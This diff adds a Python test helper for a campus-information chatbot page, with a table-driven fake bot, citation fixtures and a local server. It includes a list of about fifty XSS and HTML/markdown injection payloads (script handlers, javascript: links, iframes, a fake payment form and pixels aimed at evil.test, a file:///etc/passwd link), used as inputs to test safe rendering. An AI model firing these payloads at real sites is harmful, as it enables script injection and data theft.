@@ -1,0 +1,258 @@
+"""What the tests of the page share: a bot that answers from a small table, a real server, a real Chromium."""
+
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator, Sequence
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+from time import monotonic, sleep
+from typing import Any
+
+import pytest
+import uvicorn
+
+from bot.errors import AskError
+from bot.types import Answer, Citation, Filters, Status, Turn
+from ingest.types import Kind, Published, Source
+
+SPARK = Source(
+    "press_releases/spark.md",
+    "£1.2m investment to reinforce Stevenage campus as world-class cell and gene therapy hub",
+    "Stevenage Bioscience Catalyst",
+    Kind.PRESS_RELEASE,
+    Published(2019, 11, 19),
+    "https://www.biospace.com/1-2m-investment-to-reinforce-stevenage-campus",
+)
+ZONE = Source(
+    "news/zone.md",
+    "Stevenage named High Potential Opportunity zone for cell and gene therapy",
+    "Mondaq",
+    Kind.NEWS,
+    Published(2020, 10),
+    "https://www.mondaq.com/uk/life-sciences/995168/stevenage-named",
+)
+PARK = Source("fact_sheets/park.md", "About the park", None, Kind.FACT_SHEET, None, None)
+
+COMPANIES = (
+    "In autumn 2020 the campus had 45 companies and 1,000 jobs; 13 of the companies worked on cell and gene therapy."
+)
+CATALYST = "SBC opened in 2012 and had over 40 businesses and research bodies by November 2019."
+LABS = "Laboratories range from single benches to whole floors."
+
+
+@dataclass
+class TableBot:
+    """Answers a question from a table, by its exact words; what it was asked with stays readable in ``asked``.
+
+    A question that the table lacks is not found; a value that is an error is raised. "Echo" is answered with the
+    talk so far and the filters.
+    """
+
+    table: dict[str, Answer | Exception]
+    examples: tuple[str, ...] = ("How many companies are on the campus?", "Who will win the cup?")
+    kinds: tuple[Kind, ...] = (Kind.PRESS_RELEASE, Kind.FACT_SHEET, Kind.NEWS)
+    years: tuple[int, int] | None = (2017, 2024)
+    asked: list[tuple[str, tuple[Turn, ...], Filters]] = field(default_factory=list)
+
+    def ask(self, question: str, history: Sequence[Turn] = (), filters: Filters = Filters()) -> Answer:  # noqa: B008
+        """Look the question up."""
+        self.asked.append((question, tuple(history), filters))
+        if not question.strip():
+            raise AskError("Please type a question.")
+        if question == "Echo":
+            return echoed(history, filters)
+        found = self.table.get(question, not_found(question))
+        if isinstance(found, Exception):
+            raise found
+        return found
+
+
+def cite(number: int, source: Source, quote: str, before: str = "", after: str = "") -> Citation:
+    """A citation of a quote that stands at the beginning of its document."""
+    start = len(before)
+    return Citation(number, source, quote, start, start + len(quote), "g1", before, after)
+
+
+def answered(question: str, *citations: Citation, answer_id: str = "a1") -> Answer:
+    """An answer that quotes the citations in order."""
+    text = "\n".join(f"{citation.quote} [{citation.number}]" for citation in citations)
+    return Answer(answer_id, question, question, Status.ANSWERED, text, "g1", citations=citations)
+
+
+def not_found(question: str, *nearest: Citation) -> Answer:
+    """The honest answer when the documents do not say."""
+    text = "The documents do not answer that."
+    return Answer("n1", question, question, Status.NOT_FOUND, text, "g1", nearest=nearest)
+
+
+def echoed(history: Sequence[Turn], filters: Filters) -> Answer:
+    """What the bot was asked with, in words."""
+    kinds = ",".join(sorted(filters.kinds or ()))
+    said = f"kinds={kinds} since={filters.since} until={filters.until} turns={len(history)}"
+    return Answer("e1", "Echo", "Echo", Status.OUT_OF_SCOPE, said, "g1")
+
+
+def campus_bot() -> TableBot:
+    """A bot that knows three documents on the campus."""
+    companies, cup = TableBot({}).examples
+    zone = cite(
+        1,
+        ZONE,
+        COMPANIES,
+        before="A government department has made the town a High Potential Opportunity zone. ",
+        after=" A year earlier another award had gone to the campus, for advanced therapies. Funds raised by its "
+        "occupiers stood at over £1.6bn then, of which two thirds belonged to companies in cell and gene therapy. A "
+        "manufacturing centre stands beside their laboratories, and a training centre is planned for the people who "
+        "will work there. The nominating body expects investors from abroad to follow, and so do the occupiers.",
+    )
+    spark = cite(2, SPARK, CATALYST, before="Notes to editors.\n\n", after=" It has been funded by partners.")
+    park = cite(3, PARK, LABS)
+    nearest = (cite(1, SPARK, CATALYST), cite(2, PARK, LABS))
+    return TableBot(
+        {
+            companies: answered(companies, zone, spark, park),
+            cup: not_found(cup, *nearest),
+            "And in Stevenage?": answered("And in Stevenage?", cite(1, SPARK, CATALYST), answer_id="a2"),
+            "Break": RuntimeError("secret words"),
+        }
+    )
+
+
+# What a document, its title, its publisher, its address or a visitor's question may hold. Whatever ran would set
+# window.__pwned; whatever was fetched would leave this machine.
+HOSTILE = (
+    "<script>window.__pwned=1</script>",
+    "<img src=x onerror=window.__pwned=1>",
+    "<img src=https://evil.test/pixel.png>",
+    "![pixel](https://evil.test/p.png?q=secret)",
+    "![pixel][ref]\n\n[ref]: https://evil.test/p.png",
+    "<svg onload=window.__pwned=1><circle r=9 /></svg>",
+    "<svg><script>window.__pwned=1</script></svg>",
+    "<svg><a xlink:href='javascript:window.__pwned=1'><text y=9>go</text></a></svg>",
+    "<video src=https://evil.test/v.mp4 autoplay></video>",
+    "<audio src=https://evil.test/a.mp3 autoplay onerror=window.__pwned=1></audio>",
+    "<picture><source srcset=https://evil.test/s.webp><img src=x></picture>",
+    "<iframe src=https://evil.test/></iframe>",
+    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
+    "<object data=https://evil.test/o.swf></object>",
+    "<embed src=https://evil.test/e.swf>",
+    "<form action=https://evil.test/><input name=card autofocus><button>Pay</button></form>",
+    "<input autofocus onfocus=window.__pwned=1>",
+    "<details open ontoggle=window.__pwned=1><summary>more</summary></details>",
+    "<div style='position:fixed;inset:0;background:red;z-index:9999'>Pay here</div>",
+    "<style>*{display:none}</style>",
+    "<style>@import 'https://evil.test/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.test/x.css>",
+    "<base href=https://evil.test/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
+    "<body onload=window.__pwned=1>",
+    "<marquee onstart=window.__pwned=1>news</marquee>",
+    "<a href='javascript:window.__pwned=1'>open</a>",
+    "[open](javascript:window.__pwned=1)",
+    "[open](data:text/html,<script>opener.__pwned=1</script>)",
+    "[open](vbscript:msgbox)",
+    "[open](file:///etc/passwd)",
+    "[SBC](https://evil.test/login) says so",
+    "[open][x]\n\n[x]: javascript:window.__pwned=1",
+    "<javascript:window.__pwned=1>",
+    "<https://evil.test/autolink>",
+    "See https://evil.test/bare and www.evil.test or mail@evil.test",
+    "javascript:window.__pwned=1",
+    "&lt;img src=x onerror=window.__pwned=1&gt; &#60;b&#62; &amp;lt;",
+    "```mermaid\ngraph TD; A[<img src=x onerror=window.__pwned=1>]-->B\n```",
+    "$$\\href{javascript:window.__pwned=1}{x}$$ and $x^2$ and \\(y\\) and \\[z\\]",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></table></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'></noscript>",
+    "</mark></blockquote></section><img src=x onerror=window.__pwned=1><!--",
+    "\" onmouseover=window.__pwned=1 x=\" ' onfocus='window.__pwned=1",
+    "# Heading\n\n- list\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n    code\n\n**bold** ~~gone~~ ***",
+    "${window.__pwned=1} {{constructor.constructor('window.__pwned=1')()}} {%raw%} <%= 7*7 %>",
+    "<thinking>hidden</thinking> <custom-tag>kept</custom-tag> <textarea></textarea><!-- gone -->",
+    "1. one\n2. two\n\n--- \n\n[^1]: note \n\n- [x] done :smile: H~2~O x^2^ ==mark==",
+)
+
+
+def hostile_bot() -> TableBot:
+    """A bot whose documents are hostile: asked with a text, it cites a source that holds nothing but that text."""
+    return TableBot({text: answered(text, _hostile_citation(text)) for text in HOSTILE})
+
+
+def _hostile_citation(text: str) -> Citation:
+    source = Source(text, text, text, Kind.NEWS, None, text)
+    return cite(1, source, text, before=f"{text} ", after=f" {text}")
+
+
+def chromium() -> str:
+    """The path of a Chromium, or a skipped test; with CLUSTER_REQUIRE_BROWSER=1 a failed one."""
+    path = os.environ.get("CLUSTER_CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome")
+    if path is not None:
+        return path
+    reason = "no Chromium on this machine: apt-get install chromium, or name one in CLUSTER_CHROMIUM"
+    if os.environ.get("CLUSTER_REQUIRE_BROWSER") == "1":
+        pytest.fail(reason)
+    pytest.skip(reason)
+
+
+@contextmanager
+def served(app: Any) -> Iterator[str]:
+    """The address of a real server for an application, on a free port, until the block ends."""
+    with socket.socket() as free:
+        free.bind(("127.0.0.1", 0))
+        server = uvicorn.Server(uvicorn.Config(app, log_level="error", access_log=False, timeout_graceful_shutdown=1))
+        thread = threading.Thread(target=server.run, kwargs={"sockets": [free]}, daemon=True)
+        thread.start()
+        _wait_until(lambda: server.started)
+        try:
+            yield f"http://127.0.0.1:{free.getsockname()[1]}"
+        finally:
+            server.should_exit = True
+            thread.join(10)
+
+
+@contextmanager
+def served_page(bot: str, folder: Path) -> Iterator[str]:
+    """The address of the page before a bot of this module, named by its function; votes and log go to the folder.
+
+    In a process of its own: Gradio leaves event loops open, which this one's tests would have to answer for.
+    """
+    tests = Path(__file__).parent
+    code = f"import sys, browser; browser.serve_page(browser.{bot}(), sys.argv[1])"
+    paths = os.pathsep.join([str(tests.parent), str(tests), os.environ.get("PYTHONPATH", "")])
+    with (folder / "log.txt").open("wb") as log:
+        server = subprocess.Popen(
+            [sys.executable, "-c", code, str(folder)],
+            stdout=log,
+            stderr=log,
+            cwd=folder,
+            env=os.environ | {"PYTHONPATH": paths},
+        )
+    try:
+        _wait_until(lambda: (folder / "address.txt").exists() or server.poll() is not None)
+        assert server.poll() is None, (folder / "log.txt").read_text()
+        yield (folder / "address.txt").read_text()
+    finally:
+        server.terminate()
+        server.wait(20)
+
+
+def serve_page(bot: TableBot, folder: str) -> None:
+    """Serve the page until this process is told to end; its address stands in the folder once it answers."""
+    import ui
+    from bot.feedback import Feedback
+
+    with served(ui.build_app(bot, Feedback(Path(folder)))) as address:
+        (Path(folder) / "address.part").write_text(address)
+        (Path(folder) / "address.part").rename(Path(folder) / "address.txt")
+        threading.Event().wait()
+
+
+def _wait_until(happened: Any, seconds: float = 60) -> None:
+    end = monotonic() + seconds
+    while not happened():
+        assert monotonic() < end, f"no server within {seconds:.0f} s"
+        sleep(0.02)
